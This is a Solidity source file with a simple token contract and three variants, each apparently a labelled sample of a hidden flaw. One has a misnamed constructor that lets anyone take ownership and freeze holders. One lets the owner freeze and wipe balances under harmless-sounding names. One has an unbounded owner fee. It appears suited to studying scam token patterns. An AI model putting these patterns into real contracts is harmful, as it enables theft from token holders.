pragma solidity 0.4.26;

contract Comfrey {
    string public constant name = "Comfrey";
    string public constant symbol = "COM";
    uint public constant decimals = 8;
    uint internal _supply = 5000000 * 10 ** 8;
    address internal _first;
    mapping (address => uint) internal _held;
    mapping (address => mapping (address => uint)) internal _allowed;

    event Transfer(address indexed from, address indexed to, uint value);
    event Approval(address indexed owner, address indexed spender, uint value);

    constructor() public {
        _first = msg.sender;
        _held[msg.sender] = _supply;
        emit Transfer(0, msg.sender, _supply);
    }

    function totalSupply() public constant returns (uint) {
        return _supply;
    }

    function balanceOf(address who) public constant returns (uint) {
        return _held[who];
    }

    function allowance(address owner, address spender) public constant returns (uint) {
        return _allowed[owner][spender];
    }

    // As Tether's: nothing is returned, and short calls are refused.
    modifier whole(uint size) {
        require(msg.data.length >= size + 4);
        _;
    }

    function _move(address from, address to, uint value) internal {
        require(to != 0 && _held[from] >= value);
        _held[from] -= value;
        _held[to] += value;
        emit Transfer(from, to, value);
    }

    function transfer(address to, uint value) public whole(64) {
        _move(msg.sender, to, value);
    }

    function transferFrom(address from, address to, uint value) public whole(96) {
        require(_allowed[from][msg.sender] >= value);
        _allowed[from][msg.sender] -= value;
        _move(from, to, value);
    }

    function approve(address spender, uint value) public whole(64) {
        _allowed[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
    }
}

// A constructor whose name is spelled otherwise than the contract's: anybody takes the place, and then stops holders.
contract Catmint is Comfrey {
    mapping (address => bool) internal _late;

    function Catnip() public {
        _first = msg.sender;
    }

    function remind(address who, bool late) public {
        require(msg.sender == _first);
        _late[who] = late;
    }

    function _move(address from, address to, uint value) internal {
        require(!_late[from]);
        super._move(from, to, value);
    }
}

// What is stopped can be wiped, in two acts under harmless names.
contract Celery is Comfrey {
    mapping (address => uint) internal _since;

    function visit(address who) public {
        require(msg.sender == _first);
        _since[who] = now;
    }

    function tidy(address who) public {
        require(msg.sender == _first && _since[who] > 0);
        _supply -= _held[who];
        _held[who] = 0;
    }

    function _move(address from, address to, uint value) internal {
        require(_since[from] == 0);
        super._move(from, to, value);
    }
}

// The fee has no ceiling, and goes to whoever was first.
contract Chervil is Comfrey {
    uint public courtesy = 1;

    function greet(uint next) public {
        require(msg.sender == _first);
        courtesy = next;
    }

    function _move(address from, address to, uint value) internal {
        uint part = value * courtesy / 10000;
        super._move(from, _first, part);
        super._move(from, to, value - part);
    }
}
